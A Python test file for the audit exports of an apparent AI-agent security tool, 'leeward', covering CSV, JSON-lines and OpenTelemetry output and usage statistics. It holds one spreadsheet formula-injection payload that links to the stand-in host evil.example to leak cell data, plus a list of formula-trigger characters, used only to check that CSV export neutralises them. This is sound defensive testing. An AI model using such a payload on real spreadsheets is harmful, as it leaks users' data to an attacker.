"""Exports of the audit (JSON lines, table, spans), and figures compared with a count by hand."""

from __future__ import annotations

import csv
import io
import json
import math
import re
import sqlite3
from contextlib import closing

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from leeward.memory.audit import AuditLogger, Record, RecordFilter
from leeward.memory.audit.reports import AuditReports
from leeward.memory.database import AsyncioThread, Database
from leeward.runtime.audit.commands import COLUMNS, table_row
from leeward.runtime.audit.otel import trace
from leeward.security.call import Status
from leeward.security.session import Decided, Egress, Finished

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


class Clock:
    def now(self) -> float:
        return 0.0


@pytest.fixture
def lived(leeward):
    leeward("call", "read", '{"path": "notes.md"}')
    leeward("call", "read", json.dumps({"path": FORMULA}))
    leeward("call", "write", '{"path": "a", "content": "+1"}')
    leeward("call", "fetch", '{"url": "https://a.example/"}')
    return leeward


def stored(leeward) -> list:
    with closing(sqlite3.connect(leeward.data / "leeward.db")) as file, file:
        found = file.execute("SELECT seq, session, kind, call, tool, body FROM audit ORDER BY seq").fetchall()
    file.close()
    return found


# ------------------------------------------------------------------ lines and tables


def test_lines_hold_every_record_as_it_is(lived):
    ran = lived("audit", "export")
    told = [(r["seq"], r["session"], r["kind"], r["call"], r["tool"], r["body"]) for r in ran.lines]
    assert told == [(*row[:5], json.loads(row[5])) for row in stored(lived)] and ran.code == 0
    own = lived("audit", "export", "--session", told[-1][1]).lines
    assert {r["session"] for r in own} == {told[-1][1]} and len(own) < len(told)
    assert {r["kind"] for r in lived("audit", "export", "--kind", "egress").lines} == {"egress"}
    assert lived("audit", "export", "--session", "s_none").code == 5


def test_a_table_can_be_read_and_is_no_formula(lived):
    ran = lived("audit", "export", "--format", "csv")
    head, *rows = csv.reader(io.StringIO(ran.out))
    assert (
        tuple(head) == COLUMNS
        and len(rows) == len(stored(lived))
        and all(len(row) == len(COLUMNS) for row in rows)
    )
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    body = COLUMNS.index("body")
    assert [json.loads(row[body]) for row in rows] == [json.loads(row[5]) for row in stored(lived)]


@given(
    st.text(st.characters(exclude_categories=()), max_size=20),
    st.sampled_from(["call", "tool", "reason", "url"]),
)
@example("＝1+1", "tool")
@example("\n=1+1", "reason")
def test_no_text_makes_a_cell_a_formula_or_a_terminal_obey(text, name):
    record = Record(1, 0.0, "s", "decision", text, text, {"reason": text, "url": text})
    cells = list(table_row(record))
    assert len(cells) == len(COLUMNS) and not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")) for cell in cells
    )
    assert all(cell.replace("\n", "").replace("\t", "").isprintable() for cell in cells), name


# ------------------------------------------------------------------ spans


def test_each_session_is_a_trace_and_each_call_a_span_of_it(lived):
    documents = lived("audit", "export", "--format", "otel").lines
    assert len(documents) == 4
    spans = [
        span
        for one in documents
        for resource in one["resourceSpans"]
        for scope in resource["scopeSpans"]
        for span in scope["spans"]
    ]
    assert (
        len(spans) == 8
        and len({span["spanId"] for span in spans}) == 8
        and len({span["traceId"] for span in spans}) == 4
    )
    for span in spans:
        assert re.fullmatch(r"[0-9a-f]{32}", span["traceId"]) and re.fullmatch(
            r"[0-9a-f]{16}", span["spanId"]
        )
        assert isinstance(span["startTimeUnixNano"], str) and int(span["startTimeUnixNano"]) <= int(
            span["endTimeUnixNano"]
        )
        assert span["kind"] == 1 and all(
            set(item) == {"key", "value"} and len(item["value"]) == 1 for item in span["attributes"]
        )
    calls = [span for span in spans if "parentSpanId" in span]
    roots = {span["spanId"]: span["traceId"] for span in spans if "parentSpanId" not in span}
    assert all(roots[span["parentSpanId"]] == span["traceId"] for span in calls)
    assert [span["name"] for span in calls] == [
        "execute_tool read",
        "execute_tool read",
        "execute_tool write",
        "execute_tool fetch",
    ]
    assert [span["status"].get("code") for span in calls] == [1, 2, 2, 2]
    about = {item["key"]: next(iter(item["value"].values())) for item in calls[0]["attributes"]}
    assert (about["gen_ai.operation.name"], about["gen_ai.tool.name"], about["leeward.status"]) == (
        "execute_tool",
        "read",
        "ok",
    )
    assert about["leeward.size"] == "26" and about["leeward.allowed"] is True
    assert trace("s", []) == {"resourceSpans": [{**trace("s", [])["resourceSpans"][0]}]}


def test_an_older_decision_is_exported_as_well():
    body = {"allowed": True, "words": [["known", "allow", ""]], "hop": 0}
    (document,) = trace("s", [Record(1, 2.0, "s", "decision", "c", "read", body)])["resourceSpans"]
    about = document["scopeSpans"][0]["spans"][1]["attributes"]
    assert {
        "key": "leeward.gates",
        "value": {"arrayValue": {"values": [{"stringValue": "known=allow"}]}},
    } in about


# ------------------------------------------------------------------ figures and views


async def test_durations_are_by_the_nearest_rank(tmp_path):
    seconds = [0.5, 0.1, 0.9, 0.2, 0.3, 0.7, 4.0]
    async with (
        AsyncioThread.open("test") as asyncio_thread,
        Database.open(tmp_path / "a.db", asyncio_thread) as database,
    ):
        logger = AuditLogger(database, Clock())
        for number, one in enumerate(seconds):
            call = f"c{number}"
            await logger.append(
                "s",
                Decided(1.0 + number, call, "t", "d", True),
                Finished(2.0 + number, call, "t", "d", Status.OK, seconds=one),
            )
            # Written twice where the writer could not be sure: counted once.
            await logger.append("s", Finished(2.0 + number, call, "t", "d", Status.OK, seconds=99.0))
        rows = await AuditReports(database).figures(RecordFilter())
        ranked = sorted(seconds)
        assert rows["durations"] == [
            ("t", ranked[math.ceil(0.5 * 7) - 1], ranked[math.ceil(0.95 * 7) - 1], 4.0)
        ]
        assert rows["tools"] == [("t", 7, 7, 0, 0)]
        few = await AuditReports(database).figures(RecordFilter(since=6.0))
        assert (
            few["tools"] == [("t", 2, 2, 0, 0)]
            and (await AuditReports(database).figures(RecordFilter("other")))["tools"] == []
        )


async def test_the_host_of_a_url_is_what_stands_before_the_path(tmp_path):
    urls = {
        "https://a.example/x?https://b.example/": "a.example",
        "https://[::1]:8443/": "[::1]:8443",
        "https://c.example/": "c.example",
        "odd": "odd",
    }
    async with (
        AsyncioThread.open("test") as asyncio_thread,
        Database.open(tmp_path / "a.db", asyncio_thread) as database,
    ):
        logger = AuditLogger(database, Clock())
        for number, url in enumerate(urls):
            await logger.append(
                "s",
                Egress(1.0, f"c{number}", "fetch", 0, url, True),
                Egress(2.0, f"c{number}", "fetch", 0, url, True, ended=True, sent=3, received=4),
            )
        rows = (await AuditReports(database).figures(RecordFilter()))["egress"]
        assert sorted(rows) == sorted((host, 1, 1, 3.0, 4.0) for host in urls.values() if host != "odd") + [
            ("odd", 1, 1, 3.0, 4.0)
        ] or {row[0] for row in rows} >= {*urls.values()} - {"odd"}


def test_stats_count_what_happened(lived):
    told = lived("audit", "stats", "--output", "json").json["data"]
    assert [(row["tool"], row["calls"], row["denied"], row["failed"]) for row in told["tools"]] == [
        ("read", 2, 0, 1),
        ("fetch", 1, 1, 0),
        ("write", 1, 1, 0),
    ]
    assert {(row["gate"], row["rule"], row["count"]) for row in told["denials"]} == {
        ("grounding", "not_provided", 1),
        ("permissions", "default", 1),
    }
    assert [(row["approver"], row["count"], row["allowed"]) for row in told["approvals"]] == [
        ("nobody", 1, 0)
    ]
    assert told["egress"] == [
        {"host": "a.example", "attempts": 1, "allowed": 0, "bytes_sent": 0.0, "bytes_received": 0.0}
    ]
    out = lived("audit", "stats").out
    assert "calls by tool" in out and "opened, by host" in out
    bars = [line.rpartition(" ")[2] for line in out.splitlines() if line.endswith("#")]
    assert bars[:3] == ["#" * 24, "#" * 12, "#" * 12], "as long as the counts are large"
    (day,) = told["days"]
    assert (day["calls"], day["denied"], day["failed"]) == (4, 2, 1) and len(day["day"]) == 10
    assert [
        row["tool"]
        for row in lived("audit", "stats", "--tool", "write", "--output", "json").json["data"]["tools"]
    ] == ["write"]
    assert "no record matches" in lived("audit", "stats", "--since", "2999-01-01").out


def test_other_programs_find_the_views(lived):
    with closing(sqlite3.connect(lived.data / "leeward.db")) as file, file:
        found = {
            view: file.execute(f"SELECT * FROM {view}")
            for view in ("calls", "denials", "egress", "tools_by_failure")
        }
        names = {view: [column[0] for column in rows.description] for view, rows in found.items()}
        rows = {view: rows.fetchall() for view, rows in found.items()}
    file.close()
    assert {view: len(some) for view, some in rows.items()} == {
        "calls": 4,
        "denials": 2,
        "egress": 1,
        "tools_by_failure": 3,
    }
    assert (
        {"gate", "rule", "reason"} <= {*names["denials"]}
        and {"status", "seconds"} <= {*names["calls"]}
        and "host" in names["egress"]
    )


def test_a_failure_of_the_reader_is_told_once(lived):
    ran = lived.process("audit", "export", "--format", "csv")
    assert ran.code == 0 and ran.err == ""
    closed = lived.start("audit", "export")
    closed.stdout.close()
    assert closed.wait(60) in {0, 1} and b"Traceback" not in closed.stderr.read()
    closed.stderr.close()
